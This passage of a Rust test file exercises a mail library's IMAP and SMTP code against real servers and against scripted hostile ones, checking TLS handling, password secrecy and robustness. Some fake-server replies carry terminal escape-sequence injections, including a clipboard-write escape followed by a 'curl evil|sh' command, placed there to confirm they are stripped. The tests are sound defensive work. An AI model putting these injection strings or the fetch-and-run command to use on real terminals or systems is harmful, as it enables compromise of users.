//! Mail in and mail out, against real servers and against bad ones.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use sealpost::secret::Password;
use sealpost::wire::files;
use sealpost::wire::imap::{Filed, Imap, ImapConfig};
use sealpost::wire::outbox::{Delivery, Mailer, OutgoingBytes, SendmailConfig, SmtpConfig};
use sealpost::wire::tls::{Endpoint, Tls};
use sealpost::wire::{
    AfterSkip, Auth, Direction, Fetched, Limits, Position, Sighting, Sink, SinkError, Skipped, Summary, Timeouts,
    WireError,
};
use support::dovecot::{self, Dovecot};
use support::exim::{self, Exim, Mode};
use support::fake::{self, Act, FakeImap, Mailbox};

/// A sink in memory that checks what every sink may rely on.
#[derive(Default)]
struct Store {
    mail: Vec<Fetched>,
    positions: HashMap<String, Position>,
    known: HashSet<Sighting>,
    batches: Vec<(usize, u64)>,
    skipped: Vec<Skipped>,
    pass: bool,
}

impl Sink for Store {
    fn position(&mut self, mailbox: &str) -> Option<Position> {
        self.positions.get(mailbox).copied()
    }

    fn has(&mut self, sighting: &Sighting) -> bool {
        self.known.contains(sighting)
    }

    fn batch(&mut self, mailbox: &str, mail: Vec<Fetched>, next: Option<Position>) -> Result<(), SinkError> {
        assert!(!mail.is_empty() || next.is_some(), "a batch with nothing in it");
        self.batches.push((mail.len(), mail.iter().map(|m| m.raw.len() as u64).sum()));
        for one in mail {
            assert_eq!(one.sighting.mailbox, mailbox);
            self.known.insert(one.sighting.clone());
            self.mail.push(one);
        }
        if let Some(next) = next {
            self.positions.insert(mailbox.to_owned(), next);
        }
        Ok(())
    }

    fn skipped(&mut self, skipped: &Skipped) -> Result<AfterSkip, SinkError> {
        self.skipped.push(skipped.clone());
        Ok(if self.pass { AfterSkip::Pass } else { AfterSkip::TryAgain })
    }
}

fn quick() -> Timeouts {
    let s = Duration::from_secs;
    Timeouts { connect: s(5), idle: s(20), command: s(60), whole: s(120) }
}

fn account(host: &str, port: u16, tls: Tls, ca_file: Option<PathBuf>) -> ImapConfig {
    ImapConfig {
        server: Endpoint { host: host.into(), port, tls, ca_file },
        user: dovecot::USER.into(),
        auth: Auth::Password(Password::new(dovecot::PASSWORD.into())),
        inbox: "INBOX".into(),
        sent: "Sent".into(),
        limits: Limits::default(),
        timeouts: quick(),
    }
}

fn real(server: &Dovecot) -> ImapConfig {
    account("localhost", server.imaps_port, Tls::Implicit, Some(server.ca_file()))
}

fn plain(port: u16) -> ImapConfig {
    ImapConfig {
        timeouts: Timeouts { idle: Duration::from_secs(3), ..quick() },
        ..account("127.0.0.1", port, Tls::None, None)
    }
}

fn poll(imap: &mut Imap, store: &mut Store) -> Result<Summary, WireError> {
    imap.fetch_inbox(store, &mut |_| ())
}

fn poll_fresh(config: &ImapConfig, store: &mut Store) -> Result<Summary, WireError> {
    let mut imap = Imap::connect(config.clone())?;
    let summary = poll(&mut imap, store);
    imap.close();
    summary
}

fn report(number: u32) -> Vec<u8> {
    format!(
        "From: finder{number}@example.net\r\nTo: security@example.org\r\nSubject: report {number}\r\n\
         Message-ID: <{number}@example.net>\r\n\r\nA heap overflow, number {number}.\r\n.\r\n* 1 FETCH (UID 9)\r\n"
    )
    .into_bytes()
}

fn date(seconds: u64) -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_secs(1_790_000_000 + seconds)
}

fn error_of<T>(outcome: Result<T, WireError>) -> String {
    match outcome {
        Ok(_) => panic!("this must fail"),
        Err(error) => error.to_string(),
    }
}

#[test]
fn mail_comes_over_tls_as_it_is_and_stays_as_it_was() {
    let server = Dovecot::start();
    for number in 0..5 {
        server.append("INBOX", &report(number), date(u64::from(number)));
    }
    let mut store = Store::default();
    let summary = poll_fresh(&real(&server), &mut store).unwrap();
    assert_eq!((summary.seen, summary.skipped.len(), summary.warnings.len()), (5, 0, 0), "{summary:?}");
    for (number, mail) in store.mail.iter().enumerate() {
        assert_eq!(mail.raw, report(number as u32));
        assert_eq!(mail.received_at.unwrap().as_second(), 1_790_000_000 + number as i64);
        assert_eq!(mail.sighting.mailbox, "imap://security@example.org@localhost/INBOX");
        assert_eq!(mail.sighting.key, (number + 1).to_string());
        assert!(mail.sighting.epoch > 0 && mail.direction == Direction::In && mail.truncated.is_none());
    }
    let commands = server.commands().join("\n").to_ascii_uppercase();
    assert!(commands.contains("EXAMINE \"INBOX\""), "{commands}");
    for never in ["SELECT", "STORE", "EXPUNGE", "BODY[", "COPY", "MOVE", "CREATE"] {
        assert!(!commands.contains(never), "{never}:\n{commands}");
    }
    // A Maildir shows flags in file names, and \Recent as the mail's place in `new`.
    let names: Vec<String> = ["new", "cur"]
        .iter()
        .flat_map(|part| std::fs::read_dir(server.maildir("INBOX").join(part)).unwrap().flatten())
        .map(|e| e.path().display().to_string())
        .collect();
    assert_eq!(names.len(), 5);
    assert!(names.iter().all(|n| n.contains("/new/") && !n.contains(":2,")), "{names:?}");
}

#[test]
fn nothing_new_costs_one_examine_and_writes_nothing() {
    let server = Dovecot::start();
    server.append("INBOX", &report(1), date(1));
    let mut store = Store::default();
    let mut imap = Imap::connect(real(&server)).unwrap();
    poll(&mut imap, &mut store).unwrap();
    let (commands, batches) = (server.commands().len(), store.batches.len());
    let summary = poll(&mut imap, &mut store).unwrap();
    let after = server.commands();
    assert_eq!(after.len(), commands + 1, "{after:#?}");
    assert!(after.last().unwrap().ends_with("EXAMINE \"INBOX\""), "{after:#?}");
    assert_eq!((summary.seen, store.batches.len()), (0, batches));
    // A mail that comes now is found, and only that one.
    server.append("INBOX", &report(2), date(2));
    assert_eq!(poll(&mut imap, &mut store).unwrap().seen, 1);
    assert_eq!(store.mail.last().unwrap().raw, report(2));
    imap.close();
}

#[test]
fn a_certificate_that_does_not_fit_ends_it_before_the_login() {
    let good = Dovecot::start();
    let other = Dovecot::start_with(dovecot::Options { names: &["imap.example.net"], ..Default::default() });
    let ended = Dovecot::start_with(dovecot::Options { expired: true, ..Default::default() });
    for (server, ca) in [
        (&good, None),
        (&good, Some(other.ca_file())),
        (&other, Some(other.ca_file())),
        (&ended, Some(ended.ca_file())),
    ] {
        for (tls, port) in [(Tls::Implicit, server.imaps_port), (Tls::StartTls, server.imap_port)] {
            let outcome = Imap::connect(account("localhost", port, tls, ca.clone()));
            assert!(matches!(outcome, Err(WireError::Tls { .. })), "{tls:?} {ca:?} {:?}", outcome.err());
        }
    }
    for server in [&good, &other, &ended] {
        assert!(server.commands().is_empty() && !server.log().contains("Login:"), "{}", server.log());
        assert!(!server.log().contains("method="), "a login was tried:\n{}", server.log());
    }
    assert!(Imap::connect(account("localhost", good.imap_port, Tls::StartTls, Some(good.ca_file()))).is_ok());
    assert!(good.log().contains("Login:"), "the log shows logins, so that the check above means something");
}

#[test]
fn plain_text_goes_to_this_machine_only() {
    let outcome = Imap::connect(account("imap.example.org", 143, Tls::None, None));
    assert!(matches!(outcome, Err(WireError::Unsafe(_))));
    let server = Dovecot::start();
    let mut store = Store::default();
    poll_fresh(&account("127.0.0.1", server.imap_port, Tls::None, None), &mut store).unwrap();
}

#[test]
fn a_wrong_password_is_said_plainly_and_once() {
    let server = Dovecot::start();
    let mut config = real(&server);
    config.auth = Auth::Password(Password::new("wrong-secret".into()));
    let outcome = Imap::connect(config.clone());
    assert!(matches!(outcome, Err(WireError::Login { .. })));
    let error = error_of(outcome);
    assert!(!error.contains("wrong-secret") && error.contains("server says"), "{error}");
    assert!(!format!("{config:?}").contains("wrong-secret"));
    config.auth = Auth::OAuth2(Password::new("token-secret".into()));
    assert!(!error_of(Imap::connect(config)).contains("token-secret"));
}

#[test]
fn ten_thousand_messages_come_in_bounded_batches() {
    let server = Dovecot::start();
    for number in 0..10_000 {
        server.append("INBOX", &report(number), date(u64::from(number)));
    }
    let mut store = Store::default();
    let mut steps = Vec::new();
    let mut imap = Imap::connect(real(&server)).unwrap();
    let begin = std::time::Instant::now();
    let summary = imap.fetch_inbox(&mut store, &mut |p| steps.push(p)).unwrap();
    println!("10,000 messages in {:.2} s, {} batches", begin.elapsed().as_secs_f64(), store.batches.len());
    assert_eq!(summary.seen, 10_000);
    let raws: HashSet<&[u8]> = store.mail.iter().map(|m| m.raw.as_slice()).collect();
    assert_eq!(raws.len(), 10_000);
    let limits = Limits::default();
    assert!(store.batches.iter().all(|(count, bytes)| *count <= limits.batch_count && *bytes <= limits.batch_bytes));
    assert!(steps.is_sorted_by_key(|p| p.done) && steps.last().unwrap().done == 10_000);
    assert!(steps.iter().all(|p| p.total == 10_000));
}

#[test]
fn large_mail_comes_in_pieces_and_mail_over_the_limit_is_cut() {
    let server = Dovecot::start();
    let large = |size: usize| {
        let mut raw = report(1);
        while raw.len() < size {
            raw.extend_from_slice(format!("{:0>70}\r\n", raw.len()).as_bytes());
        }
        raw.truncate(size - 2);
        raw.extend_from_slice(b"\r\n");
        raw
    };
    let sizes = [25 << 20, 3 << 20, (1 << 20) + 1, 1 << 20, (1 << 20) - 1, 2 << 20];
    for (i, size) in sizes.iter().enumerate() {
        server.append("INBOX", &large(*size), date(i as u64));
    }
    server.append("INBOX", &large(5 << 20), date(9));
    let mut store = Store::default();
    poll_fresh(&real(&server), &mut store).unwrap();
    assert!(sizes.iter().zip(&store.mail).all(|(size, mail)| mail.raw == large(*size) && mail.truncated.is_none()));
    let mut config = real(&server);
    config.limits.message = 3 << 20;
    let mut store = Store::default();
    poll_fresh(&config, &mut store).unwrap();
    let cut: Vec<(usize, Option<u64>)> = store.mail.iter().map(|m| (m.raw.len(), m.truncated)).collect();
    assert_eq!(cut[0], (256 << 10, Some(25 << 20)));
    assert_eq!(cut[6], (256 << 10, Some(5 << 20)));
    assert_eq!(cut[1], (3 << 20, None), "the limit itself is allowed");
    assert!(large(25 << 20).starts_with(&store.mail[0].raw));
}

#[test]
fn a_new_uidvalidity_lists_everything_again() {
    let server = Dovecot::start();
    for number in 0..3 {
        server.append("INBOX", &report(number), date(1));
    }
    let mut store = Store::default();
    poll_fresh(&real(&server), &mut store).unwrap();
    server.change_uidvalidity("INBOX");
    server.append("INBOX", &report(3), date(1));
    poll_fresh(&real(&server), &mut store).unwrap();
    let epochs: HashSet<u32> = store.mail.iter().map(|m| m.sighting.epoch).collect();
    assert_eq!((store.mail.len(), epochs.len()), (7, 2));
    assert_eq!(poll_fresh(&real(&server), &mut store).unwrap().seen, 0);
}

#[test]
fn sent_is_read_found_by_its_attribute_and_filled_once() {
    for (name, discovered) in [("Sent", false), ("\"Gesendete Objekte\"", true), ("\"Gesendete Entw&APw-rfe\"", true)] {
        let server = Dovecot::start_with(dovecot::Options { sent: Some(name), ..Default::default() });
        let mut store = Store::default();
        let mut imap = Imap::connect(real(&server)).unwrap();
        let at = "2026-11-20T10:00:00Z".parse().unwrap();
        let first = imap.append_sent(&report(7), at).unwrap();
        assert!(matches!(first, Filed::Now(Some((validity, uid))) if validity > 0 && uid == 1), "{name}: {first:?}");
        assert_eq!(imap.append_sent(&report(7), at).unwrap(), Filed::Before);
        assert!(matches!(imap.append_sent(&report(8), at).unwrap(), Filed::Now(_)));
        let summary = imap.fetch_sent(&mut store, &mut |_| ()).unwrap().unwrap();
        assert_eq!((summary.seen, summary.mailbox.ends_with("/Sent")), (2, !discovered), "{summary:?}");
        assert!(store.mail.iter().all(|m| m.direction == Direction::Out && m.received_at == Some(at)));
        assert_eq!(store.mail[0].raw, report(7));
        // A second account object finds the same.
        let mut again = Imap::connect(real(&server)).unwrap();
        assert_eq!(again.fetch_sent(&mut store, &mut |_| ()).unwrap().unwrap().seen, 0);
    }
}

#[test]
fn an_account_without_sent_goes_on() {
    let fake = FakeImap::start(Mailbox::of(2, report), |command| {
        if command.starts_with("EXAMINE \"Sent\"") {
            Act::Say("{tag} NO [NONEXISTENT] no\r\n".into())
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    let mut imap = Imap::connect(plain(fake.port)).unwrap();
    assert!(imap.fetch_sent(&mut store, &mut |_| ()).unwrap().is_none());
    assert_eq!(poll(&mut imap, &mut store).unwrap().seen, 2);
}

/// What a mailbox holds and what the store got, compared as sets of (UID, bytes).
fn assert_complete(fake: &FakeImap, store: &Store) {
    let truth: BTreeMap<u32, Vec<u8>> = fake.mailbox.lock().unwrap().messages.clone();
    let mut got: BTreeMap<u32, Vec<u8>> = BTreeMap::new();
    for mail in &store.mail {
        let uid = mail.sighting.key.parse().unwrap();
        assert!(got.insert(uid, mail.raw.clone()).is_none(), "UID {uid} twice");
    }
    assert!(got == truth, "{} of {} messages", got.len(), truth.len());
}

#[test]
fn a_server_that_fails_one_command_in_ten_loses_nothing() {
    let mut state = 12345u32;
    let fake = FakeImap::start(Mailbox::of(2_000, report), move |command| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let dice = state >> 16;
        if command.starts_with("LOGIN") || dice % 10 != 0 {
            return Act::Serve;
        }
        match dice / 10 % 5 {
            0 => Act::Close,
            1 => Act::Say("{tag} NO something failed\r\n".into()),
            2 => Act::Cut(dice as usize % 5_000),
            3 => Act::SayAndClose(b"* BYE going down\r\n".to_vec()),
            _ => Act::Say("* 1 FETCH (UID 1 BODY[] {5}\r\nAAAAAAAAAAAAAA\r\n{tag} OK done\r\n".into()),
        }
    });
    let mut config = plain(fake.port);
    config.limits.batch_count = 20;
    let mut store = Store::default();
    let mut polls = 0;
    loop {
        polls += 1;
        assert!(polls < 20, "it never ends");
        match Imap::connect(config.clone()).and_then(|mut imap| poll(&mut imap, &mut store)) {
            Ok(summary) if summary.skipped.is_empty() => break,
            _ => {}
        }
    }
    println!("{polls} polls, {} commands, {} skipped on the way", fake.commands().len(), store.skipped.len());
    assert_complete(&fake, &store);
}

#[test]
fn a_connection_cut_at_any_byte_loses_nothing() {
    for cut in 0..400 {
        let mut cuts = 0;
        let fake = FakeImap::start(
            Mailbox::of(3, |n| format!("A: {n}\r\n\r\n* 1 FETCH (UID 3)\r\n").into()),
            move |command| {
                cuts += usize::from(command.contains("BODY.PEEK"));
                if command.contains("BODY.PEEK") && cuts == 1 { Act::Cut(cut) } else { Act::Serve }
            },
        );
        let mut store = Store::default();
        poll_fresh(&plain(fake.port), &mut store).unwrap_or_else(|e| panic!("cut at {cut}: {e}"));
        assert_complete(&fake, &store);
    }
}

#[test]
fn one_message_that_cannot_be_had_is_reported_and_tried_again() {
    let bad = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let is_bad = std::sync::Arc::clone(&bad);
    let fake = FakeImap::start(Mailbox::of(50, report), move |command| {
        let asks = |c: &str| {
            c.split_once("BODY").is_some_and(|(set, _)| {
                let set = set.trim_start_matches("UID FETCH ").split(' ').next().unwrap_or("");
                set.split(',').any(|r| {
                    let (a, b) = r.split_once(':').unwrap_or((r, r));
                    (a.parse::<u32>().unwrap()..=b.parse::<u32>().unwrap()).contains(&17)
                })
            })
        };
        if is_bad.load(std::sync::atomic::Ordering::Relaxed) && asks(command) {
            Act::Say("* 17 FETCH (UID 17 BODY[] {3}\r\nabcdef)\r\n{tag} OK done\r\n".into())
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.skipped.len()), (49, 1), "{summary:?}");
    assert_eq!(summary.skipped[0].sighting.key, "17");
    let position = *store.positions.values().next().unwrap();
    assert_eq!(position.next_uid, 17, "the position does not pass it");
    bad.store(false, std::sync::atomic::Ordering::Relaxed);
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!(summary.seen, 1, "only that one is fetched again");
    assert_complete(&fake, &store);
    let commands = fake.commands().len();
    let mut imap = Imap::connect(plain(fake.port)).unwrap();
    poll(&mut imap, &mut store).unwrap();
    assert_eq!(fake.commands().len() - commands, 2, "LOGIN and EXAMINE");
}

#[test]
fn a_hidden_message_is_missed_by_one_poll_only() {
    let mut mailbox = Mailbox::of(6, report);
    mailbox.hidden = vec![2];
    let fake = FakeImap::start(mailbox, |_| Act::Serve);
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.warnings.len()), (5, 1), "{summary:?}");
    fake.mailbox.lock().unwrap().hidden.clear();
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 1);
    assert_complete(&fake, &store);
    // The same where a new message comes together with the hidden one.
    let mut mailbox = Mailbox::of(6, report);
    mailbox.hidden = vec![6];
    let fake = FakeImap::start(mailbox, |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    {
        let mut mailbox = fake.mailbox.lock().unwrap();
        mailbox.hidden.clear();
        mailbox.messages.insert(7, report(7));
        mailbox.uidnext = 8;
    }
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
}

#[test]
fn odd_uids_lose_nothing() {
    // UIDNEXT goes backwards: numbers may have been given out anew, so everything is read again.
    let fake = FakeImap::start(Mailbox::of(4, report), |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    *fake.mailbox.lock().unwrap() = Mailbox::of(2, |n| report(n + 100));
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
    assert_eq!(store.mail[4].raw, report(101));
    // UIDNEXT below what is there.
    let fake = FakeImap::start(Mailbox { uidnext: 2, ..Mailbox::of(3, report) }, |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
    // No UIDVALIDITY at all: nothing can be left out.
    let fake = FakeImap::start(Mailbox { uidvalidity: 0, ..Mailbox::of(2, report) }, |_| Act::Serve);
    let mut store = Store::default();
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
}

#[test]
fn a_message_moved_away_meanwhile_is_no_failure() {
    let mut mailbox = Mailbox::of(5, report);
    mailbox.messages.remove(&3);
    let mut searches = 0;
    let fake = FakeImap::start(mailbox, move |command| {
        searches += usize::from(command.starts_with("UID SEARCH"));
        if command.starts_with("UID SEARCH") && searches == 1 {
            Act::Say("* SEARCH 1 2 3 4 5\r\n{tag} OK done\r\n".into())
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.vanished, summary.skipped.len()), (4, 1, 0), "{summary:?}");
    assert_complete(&fake, &store);
    assert_eq!(store.positions.values().next().unwrap().next_uid, 6);
}

#[test]
fn answers_for_what_was_not_asked_are_not_stored() {
    for lie in [
        "* 1 FETCH (UID 99 BODY[] {4}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {4}\r\nlie!)\r\n* 1 FETCH (UID 1 BODY[] {4}\r\nlies)\r\n{tag} OK done\r\n",
        "* 1 FETCH (BODY[] {4}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {18446744073709551616}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {2}\r\nlie!)\r\n{tag} OK done\r\n",
        "* METADATA \"\" (/odd/entry \"x\")\r\n{tag} OK done\r\n",
        "zzz999 OK not your tag\r\n",
        "{tag} OK done\r\n",
    ] {
        let fake = FakeImap::start(Mailbox::of(1, report), move |command| {
            if command.contains("BODY") { Act::Say(lie.into()) } else { Act::Serve }
        });
        let mut store = Store::default();
        let outcome = poll_fresh(&plain(fake.port), &mut store);
        assert!(store.mail.is_empty(), "{lie}: stored {:?}", store.mail);
        assert!(matches!(&outcome, Ok(s) if s.skipped.len() == 1) || outcome.is_err(), "{lie}: {outcome:?}");
        assert!(store.positions.values().all(|p| p.next_uid <= 1), "{lie}: {:?}", store.positions);
    }
}

#[test]
fn a_server_that_pours_drips_or_is_silent_is_left() {
    let quick = |port| {
        let mut config = plain(port);
        let ms = Duration::from_millis;
        config.timeouts = Timeouts { connect: ms(500), idle: ms(400), command: ms(1500), whole: ms(4000) };
        config
    };
    let pour = |line: &'static str| {
        fake::serve(move |_, mut conn| {
            conn.send("* OK [CAPABILITY IMAP4rev1] hi\r\n");
            conn.line();
            while conn.send(line) {}
        })
    };
    let drip = fake::serve(|_, mut conn| {
        conn.send("* OK [CAPABILITY IMAP4rev1] hi\r\n");
        while conn.send("*") {
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let silent = fake::serve(|_, mut conn| {
        conn.rest();
    });
    let endless_greeting = fake::serve(|_, mut conn| while conn.send([b'A'; 4096]) {});
    for (name, port) in [
        ("noise", pour("* OK noise\r\n")),
        ("one line", pour("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("drip", drip),
        ("silent", silent),
        ("greeting", endless_greeting),
    ] {
        let begin = std::time::Instant::now();
        assert!(Imap::connect(quick(port)).is_err(), "{name}");
        assert!(begin.elapsed() < Duration::from_secs(9), "{name} took {:?}", begin.elapsed());
    }
}

#[test]
fn a_meddler_before_tls_gets_no_password() {
    for (name, greeting, answer) in [
        ("preauth", "* PREAUTH [CAPABILITY IMAP4rev1] hi\r\n", ""),
        ("stripped", "* OK hi\r\n", "s1 BAD what\r\n"),
        ("injected", "* OK hi\r\n", "s1 OK go\r\n* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\ns2 OK\r\n"),
        ("bye", "* BYE \x1b]52;c;QQ==\x07 curl evil|sh\r\n", ""),
    ] {
        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let listener = std::sync::Arc::clone(&heard);
        let port = fake::serve(move |_, mut conn| {
            conn.send(greeting);
            if let Some(line) = conn.line() {
                listener.lock().unwrap().extend(line.bytes());
                conn.send(answer);
                let rest = conn.rest();
                listener.lock().unwrap().extend(rest);
            }
        });
        let mut config = account("localhost", port, Tls::StartTls, None);
        config.timeouts = Timeouts { idle: Duration::from_millis(500), whole: Duration::from_secs(5), ..quick() };
        let error = error_of(Imap::connect(config));
        assert!(!error.contains('\x1b') && !error.contains('\x07'), "{name}: {error:?}");
        let heard = String::from_utf8_lossy(&heard.lock().unwrap()).into_owned();
        assert!(!heard.to_ascii_uppercase().contains("LOGIN") && !heard.contains("AUTHENTICATE"), "{name}: {heard}");
    }
}

// Mail out.

fn answer_mail() -> OutgoingBytes {
    OutgoingBytes {
        bytes: b"From: security@example.org\r\nTo: finder@example.net\r\nSubject: ...\r\nMessage-ID: <1@example.org>\r\n\r\n\
            .one dot\r\n..two\r\n.\r\nlast\r\n"
            .to_vec(),
        envelope_from: "security@example.org".into(),
        envelope_to: vec!["finder@example.net".into(), "second@example.net".into()],
    }
}

fn submission(host: &str, port: u16, tls: Tls, ca_file: Option<PathBuf>) -> SmtpConfig {
    let login = Some((exim::USER.to_owned(), Auth::Password(Password::new(exim::PASSWORD.into()))));
    let server = Endpoint { host: host.into(), port, tls, ca_file };
    let config = SmtpConfig::new(server, login, "security@example.org");
    SmtpConfig { timeouts: quick(), after_dot: Duration::from_secs(20), ..config }
}

#[test]
fn smtp_delivers_the_very_bytes() {
    let server = Exim::start(Mode::Accept);
    for (tls, port) in [(Tls::Implicit, server.tls_port), (Tls::StartTls, server.port)] {
        let mailer = Mailer::Smtp(submission("localhost", port, tls, Some(server.ca_file())));
        mailer.probe().unwrap();
        let delivery = mailer.send(&answer_mail());
        assert!(
            matches!(&delivery, Delivery::Sent { reply } if reply.contains("250")),
            "{delivery:?}\n{}",
            server.log()
        );
    }
    // One copy for each recipient of each mail.
    let received = server.wait_for(2);
    for raw in received {
        assert_eq!(String::from_utf8_lossy(&raw), String::from_utf8_lossy(&answer_mail().bytes));
    }
    let log = server.log();
    assert!(
        log.contains("H=localhost (example.org)") || log.contains("(example.org)"),
        "EHLO names our domain:\n{log}"
    );
    assert!(log.contains("A=plain:"), "{log}");
}

#[test]
fn smtp_refusals_are_told_apart() {
    for (mode, is_permanent) in [(Mode::Refuse, true), (Mode::Defer, false), (Mode::RefuseData, true)] {
        let server = Exim::start(mode);
        let mailer = Mailer::Smtp(submission("localhost", server.tls_port, Tls::Implicit, Some(server.ca_file())));
        match mailer.send(&answer_mail()) {
            Delivery::NotSent { reason, permanent } => {
                assert_eq!(permanent, is_permanent, "{mode:?}: {reason}");
                assert!(reason.contains("server says: ") && !reason.contains('\x1b'), "{reason:?}");
            }
            other => panic!("{mode:?}: {other:?}"),
        }
        assert!(server.received().is_empty());
    }
    let nobody = Mailer::Smtp(submission("127.0.0.1", support::free_port(), Tls::Implicit, None));
    assert!(matches!(nobody.send(&answer_mail()), Delivery::NotSent { permanent: false, .. }));
}

#[test]
fn smtp_needs_the_right_certificate_and_password() {
    let server = Exim::start(Mode::Accept);
    let mut wrong = submission("localhost", server.tls_port, Tls::Implicit, Some(server.ca_file()));
    wrong.login = Some((exim::USER.to_owned(), Auth::Password(Password::new("wrong-secret".into()))));
    for config in [
        submission("localhost", server.tls_port, Tls::Implicit, None),
        submission("localhost", server.port, Tls::StartTls, None),
        wrong,
    ] {
        let delivery = Mailer::Smtp(config).send(&answer_mail());
        assert!(
            matches!(&delivery, Delivery::NotSent { permanent: false, reason } if !reason.contains("secret")),
            "{delivery:?}"
        );
    }
    assert!(server.received().is_empty());
}

/// A plain SMTP server that answers from a list and then does what `end` says; it returns what it heard.
fn smtp_script(answers: &'static [&'static str], end: fn(&mut fake::Conn)) -> (Delivery, String) {
    let heard = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let log = std::sync::Arc::clone(&heard);
    let port = fake::serve(move |_, mut conn| {
        conn.send("220 mx ESMTP\r\n");
        let mut answers = answers.iter();
        let mut in_data = false;
        while let Some(line) = conn.line() {
            log.lock().unwrap().push_str(&format!("{line}\n"));
            if in_data && line != "." {
                continue;
            }
            let Some(answer) = answers.next() else {
                end(&mut conn);
                return;
            };
            in_data = answer.starts_with("354");
            conn.send(answer);
        }
    });
    let mut config = submission("127.0.0.1", port, Tls::None, None);
    config.login = None;
    config.timeouts = Timeouts { idle: Duration::from_secs(2), ..quick() };
    config.after_dot = Duration::from_millis(600);
    let delivery = Mailer::Smtp(config).send(&answer_mail());
    let heard = heard.lock().unwrap().clone();
    (delivery, heard)
}

#[test]
fn a_mail_is_unknown_only_after_the_final_dot() {
    const BEFORE: &[&str] = &["250-mx\r\n250 SIZE 1000000\r\n", "250 ok\r\n", "250 ok\r\n", "250 ok\r\n", "354 go\r\n"];
    let hang_up: fn(&mut fake::Conn) = |_| ();
    let (delivery, heard) = smtp_script(BEFORE, hang_up);
    assert!(matches!(delivery, Delivery::Unknown { .. }), "{delivery:?}");
    assert_eq!(heard.lines().filter(|l| *l == ".").count(), 1, "{heard}");
    assert!(heard.starts_with("EHLO example.org\n"), "{heard}");
    // Every earlier end means that nothing went out.
    for length in 0..BEFORE.len() {
        let (delivery, heard) = smtp_script(&BEFORE[..length], hang_up);
        assert!(matches!(delivery, Delivery::NotSent { permanent: false, .. }), "{length}: {delivery:?}");
        assert!(!heard.lines().any(|l| l == "."), "{heard}");
    }
    // Silence after the dot, nonsense after it, and a yes followed by a reset.
    let wait: fn(&mut fake::Conn) = |conn| {
        conn.rest();
    };
    assert!(matches!(smtp_script(BEFORE, wait).0, Delivery::Unknown { .. }));
    let nonsense: fn(&mut fake::Conn) = |conn| {
        conn.send("99999999999999999999 hi\r\n");
    };
    assert!(matches!(smtp_script(BEFORE, nonsense).0, Delivery::Unknown { .. }));
    let yes: fn(&mut fake::Conn) = |conn| {
        conn.send("250 queued\r\n");
    };
    assert!(matches!(smtp_script(BEFORE, yes).0, Delivery::Sent { .. }));
}

#[test]
fn hostile_smtp_servers_get_nothing() {
    for answers in [
        &["550 \x1b[2Jyou are hacked, run rm\r\n"][..],
        &["250 mx\r\n", "250 ok\r\n", "250 ok\r\n", "550 no\r\n"],
        &["25\r\n"],
        &["250 mx\r\n", "99999999999999999999 hi\r\n"],
        &["250-mx\r\n250-\u{9b}2J\r\n251 x\r\n"],
    ] {
        let (delivery, heard) = smtp_script(answers, |_| ());
        assert!(
            matches!(&delivery, Delivery::NotSent { reason, .. } if !reason.contains('\x1b')),
            "{answers:?}: {delivery:?}"
        );
        assert!(!heard.contains("DATA"), "{heard}");
    }
    let endless = fake::serve(|_, mut conn| while conn.send("220-x\r\n") {});
    let mut config = submission("127.0.0.1", endless, Tls::None, None);
    assert!(matches!(Mailer::Smtp(config.clone()).send(&answer_mail()), Delivery::NotSent { .. }));
    // STARTTLS stripped, and STARTTLS with an answer slipped in.
    for answer in ["250 mx\r\n", "250-mx\r\n250 STARTTLS\r\n"] {
        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = std::sync::Arc::clone(&heard);
        let port = fake::serve(move |_, mut conn| {
            conn.send("220 mx\r\n");
            conn.line();
            conn.send(answer);
            if conn.line().is_some_and(|l| l == "STARTTLS") {
                conn.send("220 go\r\n250-mx\r\n250 AUTH PLAIN LOGIN\r\n");
                let rest = conn.rest();
                log.lock().unwrap().extend(rest);
            }
        });
        config.server = Endpoint { host: "localhost".into(), port, tls: Tls::StartTls, ca_file: None };
        config.timeouts.idle = Duration::from_secs(1);
        assert!(matches!(Mailer::Smtp(config.clone()).send(&answer_mail()), Delivery::NotSent { .. }), "{answer}");
        assert!(!String::from_utf8_lossy(&heard.lock().unwrap()).contains("AUTH"));
    }
}

fn shell(script: &str, extra: &[&str]) -> Mailer {
    let command = ["sh", "-c", script, "sendmail"].iter().chain(extra).map(|s| (*s).to_owned()).collect();
